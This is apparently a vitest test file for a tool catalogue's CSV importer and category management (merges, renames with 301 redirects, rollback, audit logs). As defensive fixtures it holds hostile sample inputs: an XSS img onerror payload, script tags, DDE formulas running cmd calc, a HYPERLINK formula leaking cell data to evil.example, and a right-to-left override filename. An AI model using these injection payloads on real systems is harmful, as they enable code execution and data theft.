// engine: both — imports and merges roll back as a whole (transactions).
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  confirmDryRun,
  createCategory,
  getImportRun,
  getTool,
  importCsv,
  listCategories,
  listImportRuns,
  mergeCategories,
  renameCategory,
  retireCategory,
  unretireCategory,
} from "../../server/modules/catalog/index.ts";
import { createSubmission } from "../../server/modules/submissions/index.ts";
import { queryRows, sql } from "../../server/platform/db/index.ts";
import { createMember, type Member } from "../helpers/accounts.ts";
import { fetch } from "../helpers/http.ts";
import { startTestServer, type TestServer } from "../helpers/server.ts";

/**
 * Issue 21 items 1 and 2: categories as managed data (create, rename → 301, merge → tools move and
 * 301, retire → tools move to the admin's choice, all audited; imports never create one) and imports
 * you can audit (every run's per-row report kept and listed; short rows, HTML and formulas handled).
 */

const HEADER =
  "name,slug,one_line_description,full_description,category_name,official_url,provider_name,pricing_model,tags,features,use_cases";

let server: TestServer;
let admin: Member;
let member: Member;
const actor = () => ({ id: admin.id, label: admin.email });
const ctx = () => ({ actor: actor(), requestId: null, now: new Date() });

beforeAll(async () => {
  server = await startTestServer({ pages: true });
  admin = await createMember(server, { role: "admin", name: "Cat Admin" });
  member = await createMember(server, { tier: "expert" });
});
afterAll(async () => {
  await server?.close();
});

const db = () => server.services.db;
const count = async (query: ReturnType<typeof sql>) => Number((await queryRows<{ n: number }>(db(), query))[0]?.n ?? 0);
const auditRows = (action: string, targetId?: string) =>
  queryRows<{ action: string; target_id: string; before: unknown; after: Record<string, unknown> }>(
    db(),
    sql`SELECT action, target_id, before, after FROM audit_log WHERE action = ${action}
        ${targetId ? sql`AND target_id = ${targetId}` : sql``} ORDER BY at`,
  );

describe("imports never create a category", () => {
  it("refuses a row naming an unknown category, with the closest existing names, and keeps the report", async () => {
    const categoriesBefore = await count(sql`SELECT count(*)::int AS n FROM categories`);
    const csv = [
      HEADER,
      `Quantum Widget,,Does quantum things,,Quantum Stuff,https://quantum-widget.example,,Free,,,`,
      `Imag Gen Tool,,Draws,,Imag Generation,https://imag-gen.example,,Free,,,`,
      `Known Cat Tool,,Writes,,Writing,https://known-cat.example,,Free,,,`,
    ].join("\n");
    const report = await importCsv(db(), csv, { now: new Date(), source: "cli:unknown.csv" });
    expect(report.added.map((a) => a.name)).toEqual(["Known Cat Tool"]);
    const errors = Object.fromEntries(report.errors.map((e) => [e.row, e.messages.join("; ")]));
    expect(errors[2]).toContain("Category 'Quantum Stuff' does not exist");
    expect(errors[3]).toMatch(/Category 'Imag Generation' does not exist; closest: Image Generation/);
    const imag = report.unknownCategories.find((u) => u.name === "Imag Generation");
    expect(imag).toMatchObject({ rows: [3] });
    expect(imag?.suggestions[0]).toEqual({ slug: "image-generation", name: "Image Generation" });
    expect(await count(sql`SELECT count(*)::int AS n FROM categories`)).toBe(categoriesBefore);
    expect((await listCategories(db())).some((c) => c.name === "Quantum Stuff")).toBe(false);
    // The run is kept with its per-row report and counts.
    expect(report.importId).toBeTypeOf("number");
    const run = await getImportRun(db(), report.importId as number);
    expect(run).toMatchObject({ source: "cli:unknown.csv", added: 1, refused: 2, dryRun: false });
    expect(run?.report.unknownCategories.map((u) => u.name).sort()).toEqual(["Imag Generation", "Quantum Stuff"]);
    expect(run?.report.errors.map((e) => e.row)).toEqual([2, 3]);
  });

  it("maps an unknown name only where the run says so", async () => {
    const csv = [
      HEADER,
      `Mapped Quantum Tool,,Quantum research helper,,Quantum Stuff,https://mapped-quantum.example,,Free,,,`,
      `Still Unknown Tool,,Other unknown,,Space Lasers,https://space-lasers.example,,Free,,,`,
    ].join("\n");
    const report = await importCsv(db(), csv, {
      now: new Date(),
      source: "cli:mapped.csv",
      categoryMap: { "Quantum Stuff": "research-education" },
      audit: { actor: actor() },
    });
    expect(report.added.map((a) => a.name)).toEqual(["Mapped Quantum Tool"]);
    expect(report.mappedCategories).toEqual([
      { name: "Quantum Stuff", to: { slug: "research-education", name: "Research & Education" }, rows: 1 },
    ]);
    expect(report.errors.map((e) => e.row)).toEqual([3]);
    expect((await getTool(db(), "mapped-quantum-tool"))?.category).toBe("Research & Education");
    const [audit] = await auditRows("catalog.import", String(report.importId));
    expect(audit?.after.mapped_categories).toEqual(["Quantum Stuff → Research & Education"]);
  });

  it("an admin's dry run is kept with its file and carried out once with the confirmed mapping", async () => {
    const csv = [HEADER, `Dry Quantum Tool,,Quantum,,Quantum Stuff,https://dry-quantum.example,,Free,,,`].join("\n");
    const dry = await importCsv(db(), csv, {
      now: new Date(),
      source: "admin:dry.csv",
      dryRun: true,
      keepDryRun: { csv },
    });
    expect(dry.importId).toBeTypeOf("number");
    expect(await getTool(db(), "dry-quantum-tool")).toBeNull();
    const kept = await getImportRun(db(), dry.importId as number);
    expect(kept).toMatchObject({ dryRun: true, pending: true, refused: 1 });
    const done = await confirmDryRun(
      db(),
      dry.importId as number,
      { "Quantum Stuff": "research-education" },
      {
        actor: actor(),
      },
      "draft",
      new Date(),
    );
    expect(done.added.map((a) => a.name)).toEqual(["Dry Quantum Tool"]);
    expect(await getImportRun(db(), dry.importId as number)).toMatchObject({
      pending: false,
      confirmedById: done.importId,
    });
    await expect(
      confirmDryRun(db(), dry.importId as number, {}, { actor: actor() }, "draft", new Date()),
    ).rejects.toThrow(/already/);
    const { runs } = await listImportRuns(db());
    expect(runs.map((r) => r.id)).toEqual(expect.arrayContaining([dry.importId, done.importId]));
  });

  it("a submission naming an unknown category is refused, nothing created", async () => {
    const res = await createSubmission(
      db(),
      { user: { id: member.id } } as never,
      {
        name: "Nope Tool",
        url: "https://nope-tool.example",
        description: "A tool in a category that does not exist at all",
        category: "Quantum Stuff",
      } as never,
      new Date(),
    ).catch((e: Error) => e);
    expect(res).toBeInstanceOf(Error);
    expect(String((res as Error).message)).toMatch(/choose one of the listed categories/i);
  });
});

describe("rows that used to import silently", () => {
  it("refuses a row missing columns, naming the row and the columns", async () => {
    const csv = [
      HEADER,
      `Short Row Tool,,Missing three cells,,Writing,https://short-row.example,,Free`,
      `Full Row Tool,,All cells,,Writing,https://full-row.example,,Free,,,`,
    ].join("\n");
    const report = await importCsv(db(), csv, { now: new Date(), source: "short-rows" });
    expect(report.added.map((a) => a.name)).toEqual(["Full Row Tool"]);
    expect(report.errors).toEqual([
      { row: 2, name: "Short Row Tool", messages: ["Row 2 has no cell for columns 'tags', 'features', 'use_cases'"] },
    ]);
  });

  it("refuses HTML in names and short fields, keeps it as text in the full description", async () => {
    const csv = [
      HEADER,
      `<b>Bold</b> Tool,,Fine,,Writing,https://bold-tool.example,,Free,,,`,
      `Img Tool,,Nice <img src=x onerror=alert(1)>,,Writing,https://img-tool.example,,Free,,,`,
      `Tag Tool,,Fine,,Writing,https://tag-tool.example,,Free,<script>x</script>; ok,,`,
      `Long Html Tool,,Fine,Quotes <code>npm i</code> in its docs,Writing,https://long-html.example,,Free,,,`,
      `Less Than Tool,,Costs < 5 dollars and a > b,,Writing,https://less-than.example,,Free,,,`,
    ].join("\n");
    const report = await importCsv(db(), csv, { now: new Date(), source: "html" });
    const errors = Object.fromEntries(report.errors.map((e) => [e.row, e.messages.join("; ")]));
    expect(errors[2]).toContain("Name cannot contain HTML (found '<b>')");
    expect(errors[3]).toContain("Description cannot contain HTML");
    expect(errors[4]).toContain("Tags cannot contain HTML");
    expect(report.added.map((a) => a.name)).toEqual(["Long Html Tool", "Less Than Tool"]);
  });

  it("refuses formula-like values with the row named, and flags text that only looks like one, keeping its meaning", async () => {
    const csv = [
      HEADER,
      `Dde Tool,,Fine,"-2+3+cmd|' /C calc'!A0",Writing,https://dde-tool.example,,Free,,,`,
      `Speed Tool,,Fine,-2+3 times faster rendering than v1,Writing,https://speed-tool.example,,Free,,,`,
      `"	=1+1 Tab Tool",,Fine,,Writing,https://tab-tool.example,,Free,,,`,
      `"=HYPERLINK(""https://evil.example/?leak=""&A1,""Click me"")",,Fine,,Writing,https://leak-tool.example,,Free,,,`,
      `Calc Tool,,"=cmd|' /C calc'!A0",,Writing,https://calc-tool.example,,Free,,,`,
    ].join("\n");
    const report = await importCsv(db(), csv, { now: new Date(), source: "formulas" });
    expect(report.added.map((a) => a.name)).toEqual(["Speed Tool"]);
    const errors = Object.fromEntries(report.errors.map((e) => [e.row, e.messages.join("; ")]));
    expect(errors[2]).toMatch(/^Row 2: Full description looks like a spreadsheet formula/);
    expect(errors[4]).toMatch(/^Row 4: Name looks like a spreadsheet formula/);
    expect(errors[5]).toMatch(/^Row 5: Name looks like a spreadsheet formula \('=HYPERLINK/);
    expect(errors[6]).toMatch(/^Row 6: Description looks like a spreadsheet formula/);
    expect(await getTool(db(), "dde-tool")).toBeNull();
    expect((await getTool(db(), "speed-tool"))?.full_description).toBe("-2+3 times faster rendering than v1");
    expect(report.warnings).toEqual(
      expect.arrayContaining([
        { row: 3, message: "Full description starts with '-': kept as text (not a formula; exports escape it)" },
      ]),
    );
  });

  it("the seed's run is kept too", async () => {
    const seeds = await queryRows<{ added: number; source: string }>(
      db(),
      sql`SELECT added, source FROM catalog_imports WHERE source = 'seed:ai-tools.csv'`,
    );
    expect(seeds).toEqual([{ added: 2658, source: "seed:ai-tools.csv" }]);
  });
});

describe("admin imports land for review (issue 31)", () => {
  const statusOf = async (slug: string) =>
    (await queryRows<{ status: string }>(db(), sql`SELECT status::text AS status FROM tools WHERE slug = ${slug}`))[0]
      ?.status;

  it("an admin upload adds drafts unless 'publish on import' is chosen; the seed still publishes", async () => {
    const upload = (name: string, publish: boolean) => {
      const form = new FormData();
      const csv = [
        HEADER,
        `${name},,Drafted,,Writing,https://${name.toLowerCase().replaceAll(" ", "-")}.example,,Free,,,`,
      ];
      form.set("intent", "import");
      form.set("file", new File([csv.join("\n")], "drafts.csv", { type: "text/csv" }));
      if (publish) form.set("publish", "on");
      return admin.client.fetch("/admin/tools", { method: "POST", body: form });
    };
    expect((await upload("Draft Landing Tool", false)).status).toBeLessThan(400);
    expect(await statusOf("draft-landing-tool")).toBe("draft");
    expect((await upload("Published Landing Tool", true)).status).toBeLessThan(400);
    expect(await statusOf("published-landing-tool")).toBe("active");
    const api = await admin.client.json("/api/admin/tools/import/csv", "POST", {
      csv: [HEADER, `Api Draft Tool,,Drafted,,Writing,https://api-draft-tool.example,,Free,,,`].join("\n"),
    });
    expect(api.status).toBe(200);
    expect(await statusOf("api-draft-tool")).toBe("draft");
    // The seed import of the real catalogue is not an admin import: it publishes.
    expect(
      await count(sql`SELECT count(*)::int AS n FROM tools t JOIN catalog_imports i ON i.id = t.import_id
                       WHERE i.source = 'seed:ai-tools.csv' AND t.status = 'draft'`),
    ).toBe(0);
  });

  it("warns about renamed slugs and right-to-left override characters, naming the row", async () => {
    const csv = [
      HEADER,
      `Slug Clash Tool,chatgpt,Clashes,,Writing,https://slug-clash.example,,Free,,,`,
      `Rtl Tool \u202Eexe.txt,,Sneaky,,Writing,https://rtl-tool.example,,Free,,,`,
    ].join("\n");
    const report = await importCsv(db(), csv, { now: new Date(), source: "admin:warn.csv", landAs: "draft" });
    const [clash, rtl] = report.added;
    expect(clash?.slug).toMatch(/^chatgpt-\d+$/);
    expect(rtl?.slug).toBe("rtl-tool-exe-txt");
    expect(report.warnings).toEqual(
      expect.arrayContaining([
        { row: 2, message: `Slug 'chatgpt' belongs to another tool: this one was renamed '${clash?.slug}'` },
        expect.objectContaining({ row: 3, message: expect.stringMatching(/^Name contained a right-to-left override/) }),
      ]),
    );
  });

  it("a file with a NUL byte is refused with the row named, dry run and real import alike (never a 500)", async () => {
    for (const dryRun of [true, false]) {
      const form = new FormData();
      const csv = [HEADER, `Nul Tool,,Has a \u0000 byte,,Writing,https://nul-tool.example,,Free,,,`].join("\n");
      form.set("intent", dryRun ? "dry-run" : "import");
      form.set("file", new File([csv], "nul.csv", { type: "text/csv" }));
      const res = await admin.client.fetch("/admin/tools", { method: "POST", body: form });
      expect(res.status, String(dryRun)).toBe(400);
      expect((await res.text()).replaceAll("&#x27;", "'")).toContain("NUL byte on row 2");
    }
  });

  it("an import is rolled back as a whole: its tools leave the directory, audited, once", async () => {
    const csv = [
      HEADER,
      `Rollback One,,First,,Writing,https://rollback-one.example,,Free,,,`,
      `Rollback Two,,Second,,Writing,https://rollback-two.example,,Free,,,`,
    ].join("\n");
    const report = await importCsv(db(), csv, {
      now: new Date(),
      source: "admin:rollback.csv",
      landAs: "active",
      audit: { actor: actor() },
    });
    expect(await statusOf("rollback-one")).toBe("active");
    const res = await admin.client.form(`/admin/imports/${report.importId}`, { intent: "rollback", confirm: "on" });
    expect(res.status).toBeLessThan(400);
    expect(await statusOf("rollback-one")).toBe("archived");
    expect(await statusOf("rollback-two")).toBe("archived");
    expect(await auditRows("catalog.import_rollback", String(report.importId))).toHaveLength(1);
    const again = await admin.client.form(`/admin/imports/${report.importId}`, { intent: "rollback", confirm: "on" });
    expect(again.status).toBe(409);
  });
});

describe("categories as managed data", () => {
  it("creates a category (audited) and refuses a name another category answers to", async () => {
    const made = await createCategory(db(), ctx(), { name: "Quantum Computing", description: "Qubits" });
    expect(made.slug).toBe("quantum-computing");
    expect((await listCategories(db())).some((c) => c.slug === "quantum-computing")).toBe(true);
    expect(await auditRows("category.create", String(made.id))).toHaveLength(1);
    await expect(createCategory(db(), ctx(), { name: "nlp" })).rejects.toThrow(/already leads to/);
  });

  it("renames with a slug change: the old address answers 301, API filters by the old slug still work", async () => {
    const [cat] = await queryRows<{ id: number }>(db(), sql`SELECT id FROM categories WHERE slug = '3d'`);
    const id = cat?.id as number;
    const saved = await renameCategory(db(), ctx(), id, { name: "3D & Spatial", slug: "3d-spatial" });
    expect(saved).toMatchObject({ slug: "3d-spatial", previousSlug: "3d" });
    const page = await fetch(`${server.url}/category/3d?sort=name`, { redirect: "manual" });
    expect(page.status).toBe(301);
    expect(page.headers.get("location")).toBe("/category/3d-spatial?sort=name");
    expect((await fetch(`${server.url}/category/3d-spatial`)).status).toBe(200);
    const api = (await (await fetch(`${server.url}/api/tools?category=3d&limit=1`)).json()) as {
      tools: { category: string }[];
    };
    expect(api.tools[0]?.category).toBe("3D & Spatial");
    const [audit] = await auditRows("category.rename", String(id));
    expect(audit?.before).toMatchObject({ slug: "3d", name: "3D" });
    expect(audit?.after).toMatchObject({ slug: "3d-spatial", name: "3D & Spatial" });
  });

  it("merges: tools move (with history), the old address answers 301, its names resolve to the target", async () => {
    const [src, dst] = await queryRows<{ id: number; n: number }>(
      db(),
      sql`SELECT c.id, (SELECT count(*)::int FROM tools t WHERE t.category_id = c.id) AS n FROM categories c
          WHERE c.slug IN ('customer-service', 'business') ORDER BY c.slug = 'business'`,
    );
    const moving = src?.n ?? 0;
    expect(moving).toBeGreaterThan(0);
    const r = await mergeCategories(db(), ctx(), src?.id as number, dst?.id as number);
    expect(r).toMatchObject({ source: "Customer Service", target: "Business", toolsMoved: moving });
    expect(await count(sql`SELECT count(*)::int AS n FROM tools WHERE category_id = ${src?.id}`)).toBe(0);
    expect(await count(sql`SELECT count(*)::int AS n FROM tools WHERE category_id = ${dst?.id}`)).toBe(
      (dst?.n ?? 0) + moving,
    );
    // A fact change per tool, with its history row.
    expect(
      await count(
        sql`SELECT count(*)::int AS n FROM tool_fact_history WHERE field = 'category' AND note LIKE 'Category Customer Service merged%'`,
      ),
    ).toBe(moving);
    for (const key of ["customer-service", "customer-support"]) {
      const res = await fetch(`${server.url}/category/${key}`, { redirect: "manual" });
      expect(res.status).toBe(301);
      expect(res.headers.get("location")).toBe("/category/business");
    }
    expect((await listCategories(db())).some((c) => c.slug === "customer-service")).toBe(false);
    // An import naming the merged category lands in the target.
    const report = await importCsv(
      db(),
      [HEADER, `Helpdesk Bot,,Answers,,Customer Service,https://helpdesk-bot.example,,Free,,,`].join("\n"),
      { now: new Date(), source: "after-merge" },
    );
    expect(report.added).toHaveLength(1);
    expect((await getTool(db(), "helpdesk-bot"))?.category).toBe("Business");
    const [audit] = await auditRows("category.merge", String(src?.id));
    expect(audit?.after).toMatchObject({ into: "Business", tools_moved: moving });
  });

  it("retires: tools move to the chosen category, it leaves public lists, its page answers 301", async () => {
    const [src, dst] = await queryRows<{ id: number }>(
      db(),
      sql`SELECT id FROM categories WHERE slug IN ('health-lifestyle', 'other') ORDER BY slug = 'other'`,
    );
    const r = await retireCategory(db(), ctx(), src?.id as number, dst?.id as number);
    expect(r.toolsMoved).toBeGreaterThan(0);
    expect((await listCategories(db())).some((c) => c.slug === "health-lifestyle")).toBe(false);
    const res = await fetch(`${server.url}/category/health-lifestyle`, { redirect: "manual" });
    expect(res.status).toBe(301);
    expect(res.headers.get("location")).toBe("/category/other");
    await expect(mergeCategories(db(), ctx(), src?.id as number, dst?.id as number)).rejects.toThrow(/already retired/);
    await expect(retireCategory(db(), ctx(), dst?.id as number, src?.id as number)).rejects.toThrow(/retired/);
    const categories = (await (await fetch(`${server.url}/api/categories`)).json()) as {
      categories: { slug: string }[];
    };
    expect(categories.categories.map((c) => c.slug)).not.toContain("health-lifestyle");
    expect(await auditRows("category.retire", String(src?.id))).toHaveLength(1);
  });

  it("merge and retire ask for a ticked confirmation on the server; a retirement is undone, a merge is refused with why", async () => {
    const from = await createCategory(db(), ctx(), { name: "Confirm Source" });
    const into = await createCategory(db(), ctx(), { name: "Confirm Target" });
    const moved = await importCsv(
      db(),
      [HEADER, `Unretire Tool,,Moves,,Confirm Source,https://unretire-tool.example,,Free,,,`].join("\n"),
      { now: new Date(), source: "cli:unretire.csv" },
    );
    expect(moved.added).toHaveLength(1);
    const toolCategory = async () =>
      (
        await queryRows<{ category_id: number }>(db(), sql`SELECT category_id FROM tools WHERE slug = 'unretire-tool'`)
      )[0]?.category_id;
    for (const intent of ["merge", "retire"]) {
      const refused = await admin.client.form("/admin/categories", {
        intent,
        id: String(from.id),
        target: String(into.id),
      });
      expect(refused.status, intent).toBe(400);
      expect(await refused.text()).toContain("Tick the box to confirm");
    }
    expect(await toolCategory()).toBe(from.id);
    const retired = await admin.client.form("/admin/categories", {
      intent: "retire",
      id: String(from.id),
      target: String(into.id),
      confirm: "on",
    });
    expect(retired.status).toBe(302);
    expect(await toolCategory()).toBe(into.id);
    expect(await unretireCategory(db(), ctx(), from.id)).toEqual({ name: "Confirm Source", toolsMovedBack: 1 });
    expect(await toolCategory()).toBe(from.id);
    expect((await listCategories(db())).some((c) => c.slug === "confirm-source")).toBe(true);
    expect(await auditRows("category.unretire", String(from.id))).toHaveLength(1);

    await mergeCategories(db(), ctx(), from.id, into.id);
    await expect(unretireCategory(db(), ctx(), from.id)).rejects.toThrow(/was merged, not retired/);
  });

  it("the admin pages: create through the form, list imports, open a report (admins only)", async () => {
    const res = await admin.client.form("/admin/categories", { intent: "create", name: "Robotics", slug: "" });
    expect(res.status).toBe(302);
    expect(res.headers.get("location")).toMatch(/notice=Category\+Robotics|notice=Category%20Robotics/);
    const refused = await admin.client.form("/admin/categories", { intent: "create", name: "<i>x</i>" });
    expect(refused.status).toBe(400);
    const page = await admin.client.fetch("/admin/imports");
    expect(page.status).toBe(200);
    expect(page.headers.get("cache-control")).toBe("private, no-store");
    const html = await page.text();
    expect(html).toContain("cli:unknown.csv");
    const [{ id } = { id: 0 }] = await queryRows<{ id: number }>(
      db(),
      sql`SELECT id FROM catalog_imports WHERE source = 'cli:unknown.csv'`,
    );
    const report = await admin.client.fetch(`/admin/imports/${id}`);
    expect(report.status).toBe(200);
    expect(await report.text()).toContain("Category &#x27;Quantum Stuff&#x27; does not exist");
    expect((await admin.client.fetch("/admin/imports/999999")).status).toBe(404);
    expect((await member.client.fetch(`/admin/imports/${id}`)).status).toBe(403);
  });
});
